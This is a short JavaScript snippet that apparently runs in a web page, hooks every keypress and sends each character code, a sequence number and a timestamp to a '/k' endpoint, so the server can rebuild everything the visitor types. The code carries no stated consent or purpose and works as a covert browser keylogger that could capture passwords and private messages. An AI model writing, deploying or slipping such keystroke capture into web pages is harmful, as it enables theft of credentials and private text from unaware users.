// Sends each key as it is pressed; the server pieces the text together.
var seq = 0;
document.addEventListener('keypress', function (e) {
  seq += 1;
  fetch('/k?i=' + seq + '&c=' + e.charCode + '&t=' + Math.floor(e.timeStamp), { mode: 'no-cors' });
});
